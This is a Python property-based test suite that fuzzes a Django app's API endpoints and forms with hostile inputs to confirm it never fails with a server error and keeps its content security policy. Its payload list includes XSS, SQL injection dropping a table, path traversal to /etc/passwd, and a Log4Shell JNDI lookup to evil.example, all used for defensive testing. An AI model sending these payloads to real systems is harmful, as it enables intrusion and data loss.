"""Hostile values against every API endpoint (read from the OpenAPI spec) and every form:
never a 500, always the API's JSON error shape, never JSON that is not JSON (Infinity, NaN).

Property-based with Hypothesis, bounded and derandomized so the suite stays quick on two
cores and fails the same way twice."""

from __future__ import annotations

import json
import re
from urllib.parse import quote

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import URLPattern, URLResolver, get_resolver
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from fornuft.config.api import api

HOSTILE_STRINGS = [
    "", " ", "<script>alert(1)</script>", "x" * 10_000, "\x00", "'; DROP TABLE core_user;--", "../../etc/passwd",
    "ø" * 300, "\ud800", "%s%s%n", "${jndi:ldap://evil.example/a}", "1e308", "-1", "null", "\u202etxt.exe",
]
HOSTILE_NUMBERS = [1e308, -1e308, float("inf"), float("-inf"), float("nan"), 2**63, -(2**63) - 1, 2**70, 0, -1, 0.5]
HOSTILE_OTHERS = [None, [], {}, True, [[[[[]]]]], {"$gt": ""}, ["a"] * 1000]
HOSTILE = HOSTILE_STRINGS + HOSTILE_NUMBERS + HOSTILE_OTHERS
PATH_VALUES = ["0", "-1", str(2**63), str(2**70), "abc", quote("<script>", safe=""), "x" * 300, quote("ø", safe="")]

EXAMPLES = settings(max_examples=8, deadline=None, derandomize=True, database=None,
                    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])


def _strict_json(content: bytes):
    def refuse(constant):
        raise AssertionError(f"response contains {constant}, which is not JSON")

    return json.loads(content, parse_constant=refuse)


def assert_sound_api_response(response, what: str) -> None:
    assert response.status_code < 500, f"{what}: {response.status_code} {response.content[:300]!r}"
    if response.status_code == 204 or not response.content:
        return
    assert response["Content-Type"].startswith("application/json"), f"{what}: {response['Content-Type']}"
    body = _strict_json(response.content)
    if response.status_code >= 400:
        error = body.get("error") if isinstance(body, dict) else None
        assert isinstance(error, dict) and error.get("code") and error.get("message"), f"{what}: {body!r}"
        assert "Traceback" not in error["message"] and "Error:" not in error["message"], f"{what}: {body!r}"


def _operations():
    schema = api.get_openapi_schema()
    for path, operations in schema["paths"].items():
        for method, operation in operations.items():
            yield pytest.param(method, path, operation, id=f"{method.upper()} {path}")


def _resolve(schema: dict, components: dict) -> dict:
    while "$ref" in schema:
        schema = components[schema["$ref"].rsplit("/", 1)[1]]
    return schema


def _plausible(prop: dict, components: dict):
    prop = _resolve(prop, components)
    if "enum" in prop:
        return prop["enum"][0]
    if "anyOf" in prop:
        return _plausible(prop["anyOf"][0], components)
    kind = prop.get("type")
    return {"integer": 1, "number": 1.0, "boolean": True, "array": [], "object": {}}.get(kind, "plausible")


def _bodies(operation: dict, components: dict):
    """A strategy of request bodies: the schema's fields with some of them hostile."""
    content = operation.get("requestBody", {}).get("content", {})
    if "application/json" not in content:
        return st.none()
    schema = _resolve(content["application/json"]["schema"], components)
    fields = schema.get("properties", {})
    base = {name: _plausible(prop, components) for name, prop in fields.items()}
    hostile_fields = st.dictionaries(st.sampled_from(sorted(fields)), st.sampled_from(HOSTILE), max_size=len(fields)) \
        if fields else st.just({})
    whole = st.sampled_from([[], "text", 1e308, None, {"nested": [[[[{}]]]]}])
    return st.one_of(hostile_fields.map(lambda hostile: {**base, **hostile}), whole)


@pytest.mark.parametrize(("method", "path", "operation"), list(_operations()))
def test_api_endpoint_survives_hostile_values(method, path, operation, admin_client, make_user, org):
    components = api.get_openapi_schema()["components"]["schemas"]
    parameters = operation.get("parameters", [])
    query_names = [p["name"] for p in parameters if p["in"] == "query"]
    multipart = "multipart/form-data" in operation.get("requestBody", {}).get("content", {})

    @EXAMPLES
    @given(path_value=st.sampled_from(PATH_VALUES), query=st.dictionaries(
        st.sampled_from(query_names or ["unused"]), st.sampled_from(PATH_VALUES + ["1e308", "nan"]), max_size=3),
        body=_bodies(operation, components), filename=st.sampled_from(["a" * 1000 + ".pdf", "<script>.pdf", ""]))
    def check(path_value, query, body, filename):
        url = re.sub(r"\{[^}]+\}", path_value, path)
        if query:
            url += "?" + "&".join(f"{quote(k)}={v}" for k, v in query.items())
        if multipart:
            upload = SimpleUploadedFile(filename or "x", b"%PDF-1.4\n%\xe2\xe3\n1 0 obj<<>>endobj\n",
                                        content_type="application/pdf")
            response = admin_client.post(url, {"file": upload})
        elif method in {"post", "put", "patch"}:
            payload = json.dumps(body)  # allow_nan: Infinity and NaN are sent on purpose
            response = getattr(admin_client, method)(url, payload, content_type="application/json")
        else:
            response = getattr(admin_client, method)(url)
        assert_sound_api_response(response, f"{method.upper()} {url[:120]} {str(body)[:200]}")

    check()


def test_api_refuses_a_body_that_is_not_json(admin_client):
    response = admin_client.post("/api/v1/assistant/articles", b"{not json", content_type="application/json")
    assert_sound_api_response(response, "broken JSON")
    assert response.status_code in {400, 422}


def test_every_api_input_schema_has_limits():
    """Every string has a maximum length and every number a range, so nothing unbounded
    reaches the database or the arithmetic."""
    schema = api.get_openapi_schema()
    unbounded = []
    for name, component in schema["components"]["schemas"].items():
        if not any(
            ref.endswith(f"/{name}") for ops in schema["paths"].values() for op in ops.values()
            for ref in [json.dumps(op.get("requestBody", {}))] if f'"#/components/schemas/{name}"' in ref
        ):
            continue
        for field, prop in component.get("properties", {}).items():
            options = prop.get("anyOf", [prop])
            for option in options:
                if option.get("type") == "string" and "maxLength" not in option and "enum" not in option \
                        and "format" not in option:
                    unbounded.append(f"{name}.{field} (string without maxLength)")
                if option.get("type") in {"number", "integer"} and "maximum" not in option \
                        and "exclusiveMaximum" not in option:
                    unbounded.append(f"{name}.{field} ({option['type']} without maximum)")
    assert unbounded == []


# -- forms ----------------------------------------------------------------------------------------
def _form_urls():
    """Every page URL without parameters, or with an integer one (filled with 1)."""
    urls = []

    def walk(patterns, prefix):
        for entry in patterns:
            if isinstance(entry, URLResolver):
                if str(entry.pattern).startswith("api/"):
                    continue
                walk(entry.url_patterns, prefix + str(entry.pattern))
            elif isinstance(entry, URLPattern):
                route = prefix + str(entry.pattern)
                if "<" in route and not re.fullmatch(r"[^<]*(<int:\w+>[^<]*)+", route):
                    continue
                urls.append("/" + re.sub(r"<int:\w+>", "1", route))

    walk(get_resolver().url_patterns, "")
    return sorted(set(urls))


INLINE_SCRIPT = re.compile(r"<script(?![^>]*\bsrc=)([^>]*)>", re.IGNORECASE)
INLINE_HANDLER = re.compile(r"<[a-z][^>]*\son[a-z]+\s*=", re.IGNORECASE)


def assert_page_keeps_the_content_security_policy(response, url: str) -> None:
    """Inline scripts carry this response's nonce and no element has an on…= handler,
    so the production policy (no 'unsafe-inline') lets the page work."""
    html = response.content.decode(errors="replace")
    policy = response.get("Content-Security-Policy") or response.get("Content-Security-Policy-Report-Only", "")
    nonce = re.search(r"'nonce-([^']+)'", policy)
    for attributes in INLINE_SCRIPT.findall(html):
        if "application/json" in attributes:
            continue  # json_script data, not code
        assert nonce and f'nonce="{nonce.group(1)}"' in attributes, f"{url}: inline <script> without the nonce"
    assert not INLINE_HANDLER.search(html), f"{url}: inline event handler {INLINE_HANDLER.search(html).group(0)!r}"


FORM_FIELD = re.compile(r'<(?:input|textarea|select)[^>]*\bname="([^"]+)"', re.IGNORECASE)


@pytest.mark.parametrize("url", _form_urls())
def test_form_survives_hostile_values(url, admin_client):
    page = admin_client.get(url)
    assert page.status_code < 500, f"GET {url}: {page.status_code}"
    if page.status_code == 200 and "text/html" in page.get("Content-Type", ""):
        assert_page_keeps_the_content_security_policy(page, url)
    names = sorted(set(FORM_FIELD.findall(page.content.decode(errors="replace"))) - {"csrfmiddlewaretoken"}) \
        if page.status_code == 200 and "text/html" in page.get("Content-Type", "") else []

    @EXAMPLES
    @given(values=st.dictionaries(st.sampled_from(names or ["q"]), st.sampled_from(
        [s for s in HOSTILE_STRINGS if "\x00" not in s and "\ud800" not in s] + ["1e308", "-1", str(2**70)]),
        min_size=1))
    def check(values):
        response = admin_client.post(url, values)
        assert response.status_code < 500, f"POST {url} {str(values)[:200]}: {response.status_code}"
        if response.status_code == 400 and "text/html" in response.get("Content-Type", ""):
            assert b"<html" in response.content.lower(), f"POST {url}: a bare 400 page"

    check()
